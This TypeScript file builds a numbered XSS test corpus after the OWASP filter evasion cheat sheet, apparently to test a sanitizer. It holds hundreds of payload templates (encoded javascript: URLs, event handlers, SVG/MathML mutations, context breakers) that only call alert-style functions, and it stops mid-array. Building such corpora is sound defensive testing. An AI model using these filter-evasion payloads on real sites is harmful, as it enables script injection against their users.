/**
 * An XSS corpus assembled here (no download), after the families of the OWASP XSS Filter
 * Evasion cheat sheet. Every payload tries to call alert, confirm, prompt or print with its own
 * number, so a browser that runs one says which: `prompt(117)` is payload 117.
 *
 * The corpus is generated from templates that receive the call to make; `xssPayloads()` numbers
 * the calls, `xssPayloads(() => fixedCall)` gives every payload the same call, which is how the
 * test proves the payloads differ by vector and not just by their number.
 */

export type XssFamily =
  | 'tag injection'
  | 'event handler'
  | 'script url'
  | 'svg/mathml'
  | 'script context'
  | 'json in script'
  | 'attribute'
  | 'title'
  | 'style'
  | 'textarea'
  | 'comment'
  | 'frame/object/meta/form'
  | 'encoding/mutation';

export interface XssCall {
  /** The function the payload calls. */
  fn: 'alert' | 'confirm' | 'prompt' | 'print';
  /** The argument it passes: the payload's number in the numbered corpus. */
  arg: string;
}

export interface XssPayload {
  /** Position in the corpus; also the argument of its call. */
  id: number;
  family: XssFamily;
  value: string;
}

const CALLERS: XssCall['fn'][] = ['alert', 'confirm', 'prompt', 'print'];

/** A call of a function every payload calls (the word followed by `(` or a backtick): only a payload brings one into a page's script. */
const PAYLOAD_CALL = new RegExp(`\\b(?:${CALLERS.join('|')})\\s*[(\`]`);

export function containsPayloadMarker(text: string): boolean {
  return PAYLOAD_CALL.test(text);
}

const js = (c: XssCall) => `${c.fn}(${c.arg})`;
const jsTick = (c: XssCall) => `${c.fn}\`${c.arg}\``;

// --- encoders ------------------------------------------------------------------------------
const chars = (s: string) => Array.from(s);
const dec = (s: string) =>
  chars(s)
    .map((ch) => `&#${ch.codePointAt(0)};`)
    .join('');
const decNoSemi = (s: string) =>
  chars(s)
    .map((ch) => `&#${ch.codePointAt(0)}`)
    .join('');
const decPadded = (s: string) =>
  chars(s)
    .map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')}`)
    .join('');
const decPaddedSemi = (s: string) =>
  chars(s)
    .map((ch) => `&#${String(ch.codePointAt(0)).padStart(7, '0')};`)
    .join('');
const hex = (s: string) =>
  chars(s)
    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16)};`)
    .join('');
const hexUpper = (s: string) =>
  chars(s)
    .map((ch) => `&#X${ch.codePointAt(0)!.toString(16).toUpperCase()};`)
    .join('');
const hexNoSemi = (s: string) =>
  chars(s)
    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16)}`)
    .join('');
const hexPadded = (s: string) =>
  chars(s)
    .map((ch) => `&#x${ch.codePointAt(0)!.toString(16).padStart(6, '0')}`)
    .join('');
const percent = (s: string) =>
  chars(s)
    .map((ch) => `%${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`)
    .join('');
const mixedCase = (s: string) =>
  chars(s)
    .map((ch, i) => (i % 2 ? ch.toUpperCase() : ch.toLowerCase()))
    .join('');
const base64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');
const jsUnicode = (s: string) =>
  chars(s)
    .map((ch) => `\\u${ch.codePointAt(0)!.toString(16).padStart(4, '0')}`)
    .join('');
const jsHex = (s: string) =>
  chars(s)
    .map((ch) => `\\x${ch.codePointAt(0)!.toString(16).padStart(2, '0')}`)
    .join('');
const fromCharCode = (s: string) =>
  `eval(String.fromCharCode(${chars(s)
    .map((ch) => ch.codePointAt(0))
    .join(',')}))`;
const fullWidth = (s: string) =>
  chars(s)
    .map((ch) => (ch >= '!' && ch <= '~' ? String.fromCodePoint(ch.codePointAt(0)! + 0xfee0) : ch))
    .join('');

// --- script URLs -----------------------------------------------------------------------------
type UrlTemplate = (c: XssCall) => string;

/** `javascript:`, `vbscript:` and `data:text/html` URLs, plain and disguised. */
const scriptUrls: UrlTemplate[] = [
  (c) => `javascript:${js(c)}`,
  (c) => `JaVaScRiPt:${js(c)}`,
  (c) => `JAVASCRIPT:${js(c)}`,
  (c) => `javascript:${jsTick(c)}`,
  (c) => `javascript://%0a${js(c)}`,
  (c) => `javascript://comment%0d%0a${js(c)}`,
  (c) => `javascript:void(${js(c)})`,
  (c) => `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js(c)}//'>`,
  (c) => dec(`javascript:${js(c)}`),
  (c) => decNoSemi(`javascript:${js(c)}`),
  (c) => decPadded(`javascript:${js(c)}`),
  (c) => decPaddedSemi(`javascript:${js(c)}`),
  (c) => hex(`javascript:${js(c)}`),
  (c) => hexUpper(`javascript:${js(c)}`),
  (c) => hexNoSemi(`javascript:${js(c)}`),
  (c) => hexPadded(`javascript:${js(c)}`),
  (c) => `${dec('javascript')}:${js(c)}`,
  (c) => `javascript&colon;${js(c)}`,
  (c) => `javascript&#58;${js(c)}`,
  (c) => `javascript&#x3a;${js(c)}`,
  (c) => `javascript&#X3A${js(c)}`,
  (c) => `${percent('javascript:')}${js(c)}`,
  (c) => `javascript%3A${js(c)}`,
  (c) => `javascript:${percent(js(c))}`,
  (c) => `${mixedCase('javascript')}:${js(c)}`,
  (c) => `jav\tascript:${js(c)}`,
  (c) => `jav\nascript:${js(c)}`,
  (c) => `jav\rascript:${js(c)}`,
  (c) => `jav&#x09;ascript:${js(c)}`,
  (c) => `jav&#x0A;ascript:${js(c)}`,
  (c) => `jav&#x0D;ascript:${js(c)}`,
  (c) => `jav&Tab;ascript:${js(c)}`,
  (c) => `jav&NewLine;ascript:${js(c)}`,
  (c) => `java\u0000script:${js(c)}`,
  (c) => `java&#0;script:${js(c)}`,
  (c) => ` javascript:${js(c)}`,
  (c) => `\u0001javascript:${js(c)}`,
  (c) => `\u001fjavascript:${js(c)}`,
  (c) => `&#14;  javascript:${js(c)}`,
  (c) => `\u000cjavascript:${js(c)}`,
  (c) => `javascript\t:${js(c)}`,
  (c) => `javascript:${fromCharCode(js(c))}`,
  (c) => `javascript:${jsUnicode(c.fn)}(${c.arg})`,
  (c) => `javascript:eval('${jsHex(js(c))}')`,
  (c) => `javascript:top['${c.fn}'](${c.arg})`,
  (c) => `javascript:window.onerror=${c.fn};throw ${c.arg}`,
  (c) => `vbscript:${js(c)}`,
  (c) => `VBScript:${c.fn.replace(/^\w/, (ch) => ch.toUpperCase())}(${c.arg})`,
  (c) => `vb${percent('script:')}${js(c)}`,
  (c) => `vbscript&colon;${js(c)}`,
  (c) => `data:text/html,<script>${js(c)}</script>`,
  (c) => `data:text/html;base64,${base64(`<script>${js(c)}</script>`)}`,
  (c) => `data:text/html;charset=utf-8,%3Cscript%3E${js(c)}%3C%2Fscript%3E`,
  (c) => `DATA:TEXT/HTML,<svg onload=${js(c)}>`,
  (c) => `data:text/html;,<img src=x onerror=${js(c)}>`,
  (c) => `da\tta:text/html,<script>${js(c)}</script>`,
  (c) => `data&colon;text/html,<script>${js(c)}</script>`,
  (c) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js(c)}'/>`,
  (c) => `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(c)}"/>`)}`,
  (c) => `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${js(c)}</script></html>`,
];

/**
 * Where a script URL goes: the value itself (URL fields), or a link that would carry it (text
 * and HTML fields). Frames, forms and other URL attributes get their own vectors below.
 */
const urlContexts: ((url: string) => string)[] = [(url) => url, (url) => `<a href="${url}">Detaylar</a>`];

/** The script URLs that also go into less common URL attributes. */
const urlAttributeVectors: UrlTemplate[] = [
  (c) => `<img src="javascript:${js(c)}">`,
  (c) => `<IMG SRC=javascript:${js(c)}>`,
  (c) => `<IMG SRC=\`javascript:${js(c)}\`>`,
  (c) => `<IMG SRC="jav&#x09;ascript:${js(c)}">`,
  (c) => `<IMG SRC=${decNoSemi(`javascript:${js(c)}`)}>`,
  (c) => `<IMG DYNSRC="javascript:${js(c)}">`,
  (c) => `<IMG LOWSRC="javascript:${js(c)}">`,
  (c) => `<INPUT TYPE="IMAGE" SRC="javascript:${js(c)};">`,
  (c) => `<BODY BACKGROUND="javascript:${js(c)}">`,
  (c) => `<TABLE BACKGROUND="javascript:${js(c)}"><tr><td>x</td></tr></TABLE>`,
  (c) => `<TABLE><TD BACKGROUND="javascript:${js(c)}">x</TD></TABLE>`,
  (c) => `<BGSOUND SRC="javascript:${js(c)};">`,
  (c) => `<LINK REL="stylesheet" HREF="javascript:${js(c)};">`,
  (c) => `<video poster=javascript:${js(c)}//></video>`,
  (c) => `<img srcset="javascript:${js(c)} 1x">`,
  (c) => `<picture><source srcset="javascript:${js(c)}"><img src=x></picture>`,
  (c) => `<a href="javascript:${js(c)}" target="_blank" rel="noopener">Haber</a>`,
  (c) => `<a href="  javascript:${js(c)}">boşluk</a>`,
  (c) => `<a href="jav&#x0A;ascript:${js(c)}">satır</a>`,
  (c) => `<a href="java&#0000009script:${js(c)}">sekme</a>`,
  (c) => `<a href="&#x6a;avascript&#x3a;${js(c)}">hex</a>`,
  (c) => `<a href="javascript&colon;${js(c)}">colon</a>`,
  (c) => `<a href="${percent('javascript')}:${js(c)}">yüzde</a>`,
  (c) => `<a href="//evil.example/?${js(c)}">protokolsüz</a>`,
  (c) => `<a href="\\\\evil.example\\${js(c)}">ters bölü</a>`,
  (c) => `<A HREF="javascript:document.location='javascript:${js(c)}'">XSS</A>`,
  (c) => `<a href="data:text/html;base64,${base64(`<script>${js(c)}</script>`)}">veri</a>`,
  (c) => `<a href="vbscript:${js(c)}">vb</a>`,
  (c) => `<a href="mailto:x@example.com" onclick="${js(c)}">posta</a>`,
  (c) => `<a href="tel:+90312" onmouseover="${js(c)}">tel</a>`,
];

// --- event handlers ------------------------------------------------------------------------------
/** Elements with a handler that fires by itself (or on the slightest interaction). */
const eventHandlerVectors: UrlTemplate[] = [
  (c) => `<img src=x onerror=${js(c)}>`,
  (c) => `<img src="x" onerror="${js(c)}">`,
  (c) => `<img src='x' onerror='${js(c)}'>`,
  (c) => `<IMG SRC=/ onerror="${js(c)}"></img>`,
  (c) => `<img src=x onerror=${jsTick(c)}>`,
  (c) => `<img/src=x/onerror=${js(c)}>`,
  (c) => `<img src=x onerror\n=${js(c)}>`,
  (c) => `<img src=x onerror\t=\t${js(c)}>`,
  (c) => `<img src=x:x onerror=javascript:${js(c)}>`,
  (c) => `<img src=x onerror="${dec(js(c))}">`,
  (c) => `<img src=x onerror="${decPadded(js(c))}">`,
  (c) => `<img src=x onerror="${hexNoSemi(js(c))}">`,
  (c) => `<img src=x onerror="${jsUnicode(c.fn)}(${c.arg})">`,
  (c) => `<img src=x onerror="eval('${jsHex(js(c))}')">`,
  (c) => `<img src=x onerror=${fromCharCode(js(c))}>`,
  (c) => `<img src=x oNeRrOr=${js(c)}>`,
  (c) => `<img src=x onerror=window['${c.fn}'](${c.arg})>`,
  (c) => `<img src=x onerror=top[/${c.fn}/.source](${c.arg})>`,
  (c) => `<img src=x onerror=self[atob('${base64(c.fn)}')](${c.arg})>`,
  (c) => `<img src=x onerror=(${c.fn})(${c.arg})>`,
  (c) => `<img src=x onerror=throw/**/onerror=${c.fn},${c.arg}>`,
  (c) => `<image src=x onerror=${js(c)}>`,
  (c) => `<IMG """><SCRIPT>${js(c)}</SCRIPT>">`,
  (c) => `<IMG SRC=# onmouseover="${js(c)}">`,
  (c) => `<IMG SRC= onmouseover="${js(c)}">`,
  (c) => `<IMG onmouseover="${js(c)}">`,
  (c) => `<body onload=${js(c)}>`,
  (c) => `<BODY ONLOAD=${js(c)}>`,
  (c) => `<body onpageshow=${js(c)}>`,
  (c) => `<body onhashchange=${js(c)}>`,
  (c) => `<body onresize=${js(c)}>`,
  (c) => `<body onscroll=${js(c)}><br><br><br><br><br><br><br><br><br><br><br><br>`,
  (c) => `<body onfocus=${js(c)}>`,
  (c) => `<body onbeforeprint=${js(c)}>`,
  (c) => `<body onmessage=${js(c)}>`,
  (c) => `<body onpopstate=${js(c)}>`,
  (c) => `<frameset onload=${js(c)}>`,
  (c) => `<input autofocus onfocus=${js(c)}>`,
  (c) => `<input onblur=${js(c)} autofocus><input autofocus>`,
  (c) => `<input type=text value="" onfocusin=${js(c)} autofocus>`,
  (c) => `<select autofocus onfocus=${js(c)}></select>`,
  (c) => `<textarea autofocus onfocus=${js(c)}></textarea>`,
  (c) => `<keygen autofocus onfocus=${js(c)}>`,
  (c) => `<button autofocus onfocus=${js(c)}>x</button>`,
  (c) => `<div contenteditable autofocus onfocus=${js(c)}>x</div>`,
  (c) => `<a id=x tabindex=1 onfocus=${js(c)}></a>`,
  (c) => `<details open ontoggle=${js(c)}>`,
  (c) => `<details ontoggle=${js(c)} open><summary>x</summary></details>`,
  (c) => `<svg onload=${js(c)}>`,
  (c) => `<svg/onload=${js(c)}>`,
  (c) => `<svg onload=${js(c)}//`,
  (c) => `<svg\fonload=${js(c)}>`,
  (c) => `<video><source onerror="${js(c)}"></video>`,
  (c) => `<video src=x onerror=${js(c)}></video>`,
  (c) => `<audio src=x onerror=${js(c)}></audio>`,
  (c) => `<video autoplay onloadstart=${js(c)} src=x></video>`,
  (c) => `<audio autoplay oncanplay=${js(c)}><source src=x></audio>`,
  (c) => `<object data=x onerror=${js(c)}></object>`,
  (c) => `<script src=x onerror=${js(c)}></script>`,
  (c) => `<link rel=stylesheet href=x onerror=${js(c)}>`,
  (c) => `<link rel=preload as=style href=x onload=${js(c)}>`,
  (c) => `<style onload=${js(c)}></style>`,
  (c) => `<iframe onload=${js(c)}></iframe>`,
  (c) => `<marquee onstart=${js(c)}>x</marquee>`,
  (c) => `<marquee loop=1 width=0 onfinish=${js(c)}>x</marquee>`,
  (c) => `<div style="animation-name:spin;animation-duration:1s" onanimationstart=${js(c)}>x</div>`,
  (c) => `<div style="animation:x 1s" onanimationend=${js(c)}>x</div>`,
  (c) => `<div style="transition:all 1s" ontransitionend=${js(c)}>x</div>`,
  (c) => `<div onmouseover=${js(c)} style="position:fixed;inset:0">x</div>`,
  (c) => `<div onmouseenter=${js(c)}>x</div>`,
  (c) => `<div onpointerover=${js(c)}>x</div>`,
  (c) => `<div onpointerenter=${js(c)}>x</div>`,
  (c) => `<div onmousemove=${js(c)}>x</div>`,
  (c) => `<div onclick=${js(c)}>x</div>`,
  (c) => `<div ondblclick=${js(c)}>x</div>`,
  (c) => `<div oncontextmenu=${js(c)}>x</div>`,
  (c) => `<div onwheel=${js(c)}>x</div>`,
  (c) => `<div onscrollend=${js(c)}>x</div>`,
  (c) => `<div onkeydown=${js(c)} contenteditable>x</div>`,
  (c) => `<div onkeyup=${js(c)} contenteditable>x</div>`,
  (c) => `<div oncopy=${js(c)}>x</div>`,
  (c) => `<div onpaste=${js(c)} contenteditable>x</div>`,
  (c) => `<div ondrag=${js(c)} draggable=true>x</div>`,
  (c) => `<div ondrop=${js(c)}>x</div>`,
  (c) => `<div onbeforeinput=${js(c)} contenteditable>x</div>`,
  (c) => `<div oninput=${js(c)} contenteditable>x</div>`,
  (c) => `<div ontouchstart=${js(c)}>x</div>`,
  (c) => `<div onauxclick=${js(c)}>x</div>`,
  (c) => `<div onfocusout=${js(c)} tabindex=0>x</div>`,
  (c) => `<form onsubmit=${js(c)}><input type=submit></form>`,
  (c) => `<form onreset=${js(c)}><input type=reset></form>`,
  (c) => `<input oninvalid=${js(c)} required><form><input required></form>`,
  (c) => `<input onchange=${js(c)}>`,
  (c) => `<input type=search onsearch=${js(c)}>`,
  (c) => `<input onselect=${js(c)} value=x autofocus>`,
  (c) => `<dialog open onclose=${js(c)}></dialog>`,
  (c) => `<div popover id=p onbeforetoggle=${js(c)}>x</div>`,
  (c) => `<p onbeforecopy=${js(c)} contenteditable>x</p>`,
  (c) => `<x onclick=${js(c)}>tıkla</x>`,
  (c) => `<custom-tag onfocus=${js(c)} tabindex=1 autofocus>x</custom-tag>`,
  (c) => `<BR SIZE="&{${js(c)}}">`,
];

// --- SVG and MathML -------------------------------------------------------------------------------
const svgMathVectors: UrlTemplate[] = [
  (c) => `<svg><script>${js(c)}</script></svg>`,
  (c) => `<svg><script href="data:,${js(c)}" /></svg>`,
  (c) => `<svg><script xlink:href="data:,${js(c)}"></script></svg>`,
  (c) => `<svg><script>&#x61;lert(${c.arg})</script></svg>`.replace('&#x61;lert', dec(c.fn)),
  (c) => `<svg><animate onbegin=${js(c)} attributeName=x dur=1s>`,
  (c) => `<svg><set onbegin=${js(c)} attributeName=x to=1>`,
  (c) => `<svg><set attributeName=onload to=${js(c)} /></svg>`,
  (c) => `<svg><animate attributeName=href values=javascript:${js(c)} /><a><text x=20 y=20>X</text></a></svg>`,
  (c) => `<svg><a xlink:href="javascript:${js(c)}"><text x="20" y="20">XSS</text></a></svg>`,
  (c) => `<svg><a href="javascript:${js(c)}"><rect width=100 height=100 /></a></svg>`,
  (c) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js(c)}'/></svg>#x"/></svg>`,
  (c) => `<svg><image href=x onerror=${js(c)}></image></svg>`,
  (c) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js(c)}</script>"></iframe></foreignObject></svg>`,
  (c) => `<svg><style><img src=x onerror=${js(c)}></style></svg>`,
  (c) => `<svg><title><img src=x onerror=${js(c)}></title></svg>`,
  (c) => `<svg><desc><img src=x onerror=${js(c)}></desc></svg>`,
  (c) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js(c)}</handler></svg>`,
  (c) => `<svg><discard onbegin=${js(c)}></svg>`,
  (c) => `<svg><feImage href="javascript:${js(c)}"/></svg>`,
  (c) => `<svg xmlns="http://www.w3.org/2000/svg"><g onload="${js(c)}"></g></svg>`,
  (c) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js(c)}>"]]></svg>`,
  (c) => `<math href="javascript:${js(c)}">CLICKME</math>`,
  (c) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(c)}">x</maction></math>`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${js(c)}></style></mglyph></table></mtext></math>`,
  (c) =>
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${js(c)}>"></style></svg></mglyph></h1></mtext></math>`,
  (c) => `<math><mi xlink:href="data:x,<script>${js(c)}</script>">x</mi></math>`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js(c)}>`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${js(c)}>"></noscript>`,
];

// --- context breakers ----------------------------------------------------------------------------
/** What a payload runs once it has left its context. */
const bodies: UrlTemplate[] = [(c) => `<script>${js(c)}</script>`, (c) => `<img src=x onerror=${js(c)}>`, (c) => `<svg onload=${js(c)}>`];

const closers: Record<Extract<XssFamily, 'script context' | 'title' | 'style' | 'textarea' | 'comment'>, string[]> = {
  'script context': ['</script>', '</SCRIPT>', '</script >', '</script\t\n>', '</script/x>', '</ScRiPt foo="bar">'],
  title: ['</title>', '</TITLE>', '</title >', '</title\n/>'],
  style: ['</style>', '</STYLE>', '</style >', '}</style>'],
  textarea: ['</textarea>', '</TEXTAREA>', '</textarea\t>'],
  comment: ['-->', '--!>', '--->', '<!-- -->', '<!--->'],
};

const scriptContextVectors: UrlTemplate[] = [
  (c) => `';${js(c)};//`,
  (c) => `";${js(c)};//`,
  (c) => `\\";${js(c)};//`,
  (c) => `\\';${js(c)};//`,
  (c) => `'-${js(c)}-'`,
  (c) => `"-${js(c)}-"`,
  (c) => `\`-${js(c)}-\``,
  (c) => `\${${js(c)}}`,
  (c) => `</script><script>/*${'*/'}${js(c)}/*</script>`,
  (c) => `\\';${js(c)}//`,
  (c) => `');${js(c)};('`,
  (c) => `"));${js(c)};(("`,
  (c) => `*/${js(c)}/*`,
  (c) => `-->${js(c)}<!--`,
];

/** Tags of their own: scripts in every spelling, and elements that break the markup around them. */
const tagInjectionVectors: UrlTemplate[] = [
  (c) => `<<SCRIPT>${js(c)}//<</SCRIPT>`,
  (c) => `<scr<script>ipt>${js(c)}</scr</script>ipt>`,
  (c) => `<script/x>${js(c)}</script>`,
  (c) => `<script\n>${js(c)}</script\n>`,
  (c) => `<SCRIPT>${js(c)}</SCRIPT>`,
  (c) => `<ScRiPt>${js(c)}</sCrIpT>`,
  (c) => `<script>${js(c)}`,
  (c) => `<script src="data:text/javascript,${js(c)}"></script>`,
  (c) => `<script src=data:,${js(c)}></script>`,
  (c) => `<SCRIPT a=">" SRC="data:,${js(c)}"></SCRIPT>`,
  (c) => `<SCRIPT =">" SRC="data:,${js(c)}"></SCRIPT>`,
  (c) => `<script type="module">${js(c)}</script>`,
  (c) => `<script type=text/javascript>${js(c)}</script>`,
  (c) => `<script>eval(atob('${base64(js(c))}'))</script>`,
  (c) => `<script>${jsUnicode(c.fn)}(${c.arg})</script>`,
  (c) => `<script>/* */${js(c)}/* */</script>`,
];

const jsonInScriptVectors: UrlTemplate[] = [
  (c) => `"</script><script>${js(c)}</script>`,
  (c) => `<!--<script>${js(c)}</script>-->`,
  (c) => `<!--<script></script><script>${js(c)}</script>`,
  (c) => `\u2028${js(c)}//`,
  (c) => `\u2029${js(c)}//`,
  (c) => `\u2028</script><script>${js(c)}</script>`,
  (c) => `\u2029"};${js(c)};//`,
  (c) => `"}]}</script><script>${js(c)}</script>`,
  (c) => `"};${js(c)};var x={"a":"`,
  (c) => `\\u003c/script\\u003e\\u003cscript\\u003e${js(c)}\\u003c/script\\u003e`,
  (c) => `\\x3c/script\\x3e\\x3cscript\\x3e${js(c)}\\x3c/script\\x3e`,
  (c) => `&lt;/script&gt;&lt;script&gt;${js(c)}&lt;/script&gt;`,
  (c) => `</script\u2028><script>${js(c)}</script>`,
  (c) => `<\\/script><script>${js(c)}<\\/script>`,
  (c) => `]]></script><script>${js(c)}</script>`,
  (c) => `{"@context":"https://schema.org","name":"</script><script>${js(c)}</script>"}`,
];

const attributeVectors: UrlTemplate[] = [
  (c) => `" onmouseover="${js(c)}" x="`,
  (c) => `' onmouseover='${js(c)}' x='`,
  (c) => `" onfocus="${js(c)}" autofocus="`,
  (c) => `' onfocus='${js(c)}' autofocus='`,
  (c) => `" autofocus onfocus=${js(c)} x="`,
  (c) => `"><img src=x onerror=${js(c)}>`,
  (c) => `'><img src=x onerror=${js(c)}>`,
  (c) => `"><script>${js(c)}</script>`,
  (c) => `'><script>${js(c)}</script>`,
  (c) => `"/><svg onload=${js(c)}>`,
  (c) => `x onerror=${js(c)}`,
  (c) => ` onfocus=${js(c)} autofocus `,
  (c) => `x/onmouseover=${js(c)}`,
  (c) => `"/onload="${js(c)}`,
  (c) => `"style="animation-name:x" onanimationstart="${js(c)}`,
  (c) => `&quot; onfocus=${js(c)} autofocus=&quot;`,
  (c) => `&#34; onmouseover=&#34;${js(c)}`,
  (c) => `&#39; onmouseover=&#39;${js(c)}`,
  (c) => `\` onmouseover=${js(c)} \``,
  (c) => `" accesskey="x" onclick="${js(c)}`,
  (c) => `"\tonpointerover="${js(c)}`,
  (c) => `" src=x onerror="${js(c)}`,
  (c) => `" href="javascript:${js(c)}`,
  (c) => `" srcdoc="<script>parent.${js(c)}</script>`,
  (c) => `x" formaction="javascript:${js(c)}`,
  (c) => `%22%3E%3Cimg%20src%3Dx%20onerror%3D${js(c)}%3E`,
  (c) => `%27%20onmouseover%3D${js(c)}%20x%3D%27`,
  (c) => `\\" onmouseover=\\"${js(c)}`,
];

const styleVectors: UrlTemplate[] = [
  (c) => `<div style="width:expression(${js(c)})">x</div>`,
  (c) => `<IMG STYLE="xss:expr/*XSS*/ession(${js(c)})">`,
  (c) => `<div style="xss:\\0065xpression(${js(c)})">x</div>`,
  (c) => `<DIV STYLE="background-image: url(javascript:${js(c)})">x</DIV>`,
  (c) => `<DIV STYLE="background-image: url(&#1;javascript:${js(c)})">x</DIV>`,
  (c) => `<div style="background:url('javascript:${js(c)}')">x</div>`,
  (c) =>
    `<div style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a${js(c)}'\\0029">x</div>`,
  (c) => `<style>@import 'javascript:${js(c)}';</style>`,
  (c) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${js(c)}';</STYLE>`,
  (c) => `<style>body{background:url("javascript:${js(c)}")}</style>`,
  (c) => `<STYLE>li {list-style-image: url("javascript:${js(c)}");}</STYLE><UL><LI>XSS</br>`,
  (c) => `<STYLE TYPE="text/javascript">${js(c)};</STYLE>`,
  (c) => `<STYLE>.XSS{background-image:url("javascript:${js(c)}");}</STYLE><A CLASS=XSS></A>`,
  (c) => `<style>*{x:expression(${js(c)})}</style>`,
  (c) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${js(c)}"></div>`,
  (c) => `<style>:target{color:red}</style><div id=x style="transition:color 1s" ontransitionend=${js(c)}>`,
  (c) => `<META HTTP-EQUIV="Link" Content="<javascript:${js(c)}>; REL=stylesheet">`,
  (c) => `<span style="behavior:url(#default#time2)" onbegin="${js(c)}">x</span>`,
  (c) => `<p style="-moz-binding:url('data:text/xml,<x>${js(c)}</x>')">x</p>`,
];

const frameVectors: UrlTemplate[] = [
  (c) => `<iframe src="javascript:${js(c)}" sandbox="allow-scripts allow-modals"></iframe>`,
  (c) => `<iframe src=javascript:${js(c)}>`,
  (c) => `<iframe srcdoc="<script>parent.${js(c)}</script>"></iframe>`,
  (c) => `<iframe srcdoc="&lt;img src=x onerror=parent.${js(c)}&gt;"></iframe>`,
  (c) => `<iframe src="data:text/html,<script>parent.${js(c)}</script>"></iframe>`,
  (c) => `<IFRAME SRC="javascript:${js(c)};"></IFRAME>`,
  (c) => `<iframe src=javascript:${js(c)} <`,
  (c) => `<FRAMESET><FRAME SRC="javascript:${js(c)};"></FRAMESET>`,
  (c) => `<object data="javascript:${js(c)}"></object>`,
  (c) => `<object data="data:text/html;base64,${base64(`<script>parent.${js(c)}</script>`)}"></object>`,
  (c) => `<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,<script>${js(c)}</script>"></OBJECT>`,
  (c) => `<object><param name="src" value="javascript:${js(c)}"></object>`,
  (c) => `<embed src="javascript:${js(c)}">`,
  (c) =>
    `<EMBED SRC="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(c)}"/>`)}" type="image/svg+xml">`,
  (c) => `<embed src="data:text/html,<script>${js(c)}</script>">`,
  (c) => `<applet code="javascript:${js(c)}"></applet>`,
  (c) => `<base href="javascript:${js(c)}//">`,
  (c) => `<BASE HREF="javascript:${js(c)};//"><a href="x">x</a>`,
  (c) => `<base href="data:text/html,<script>${js(c)}</script>//">`,
  (c) => `<meta http-equiv="refresh" content="0;url=javascript:${js(c)}">`,
  (c) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64(`<script>${js(c)}</script>`)}">`,
  (c) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:${js(c)};">`,
  (c) => `<meta http-equiv="Set-Cookie" content="x=<script>${js(c)}</script>">`,
  (c) => `<form><button formaction="javascript:${js(c)}">Gönder</button></form>`,
  (c) => `<form><input type=submit formaction=javascript:${js(c)} value=Gönder></form>`,
  (c) => `<form action="javascript:${js(c)}"><input type=submit></form>`,
  (c) => `<form id=f action=javascript:${js(c)}></form><button form=f>x</button>`,
  (c) => `<button form=contact formaction="javascript:${js(c)}">x</button>`,
  (c) => `<input type=image formaction=javascript:${js(c)} src=x>`,
  (c) => `<isindex action=javascript:${js(c)} type=image>`,
  (c) => `<a href="#" ping="javascript:${js(c)}">x</a>`,
  (c) => `<portal src="javascript:${js(c)}"></portal>`,
];

const encodingVectors: UrlTemplate[] = [
  (c) => `&lt;script&gt;${js(c)}&lt;/script&gt;`,
  (c) => `&lt;img src=x onerror=${js(c)}&gt;`,
  (c) => `&amp;lt;script&amp;gt;${js(c)}&amp;lt;/script&amp;gt;`,
  (c) => `%3Cscript%3E${js(c)}%3C/script%3E`,
  (c) => `%253Cscript%253E${js(c)}%253C/script%253E`,
  (c) => `\\u003cimg src=x onerror=${js(c)}\\u003e`,
  (c) => `\\x3cimg src=x onerror=${js(c)}\\x3e`,
  (c) => fullWidth(`<script>${js(c)}</script>`),
  (c) => `\uFF1Cimg src=x onerror=${js(c)}\uFF1E`,
  (c) => `<\u0000script>${js(c)}</script>`,
  (c) => `<scr\u0000ipt>${js(c)}</scr\u0000ipt>`,
  (c) => `<img src=x onerror\u0000=${js(c)}>`,
  (c) => `\uFEFF<script>${js(c)}</script>`,
  (c) => `<a\u00a0href="javascript:${js(c)}">x</a>`,
  (c) => `<?xml version="1.0"?><script>${js(c)}</script>`,
  (c) => `<? foo="><script>${js(c)}</script>">`,
  (c) => `<![CDATA[><script>${js(c)}</script>]]>`,
  (c) => `<!DOCTYPE html><script>${js(c)}</script>`,
  (c) => `<!--[if gte IE 4]><script>${js(c)}</script><![endif]-->`,
  (c) => `<!--><img src=x onerror=${js(c)}>-->`,
  (c) => `<!---><img src=x onerror=${js(c)}>-->`,
  (c) => `<!-- --!> <img src=x onerror=${js(c)}> -->`,
  (c) => `<xmp><p title="</xmp><img src=x onerror=${js(c)}>">`,
  (c) => `<noembed><img title="</noembed><img src=x onerror=${js(c)}>"></noembed>`,
  (c) => `<noframes><p title="</noframes><img src=x onerror=${js(c)}>">`,
  (c) => `<listing>&lt;img src=x onerror=${js(c)}&gt;</listing>`,
  (c) => `<plaintext><img src=x onerror=${js(c)}>`,
  (c) => `<template><img src=x onerror=${js(c)}></template>`,
  (c) => `<table><td><form><img src=x onerror=${js(c)}></table>`,
  (c) => `<select><style></select><img src=x onerror=${js(c)}></style>`,
  (c) => `<a href="x" title="<img src=x onerror=${js(c)}>">x</a>`,
  (c) => `{{constructor.constructor('${js(c)}')()}}`,
  (c) => `{{${js(c)}}}`,
  (c) => `#{${js(c)}}`,
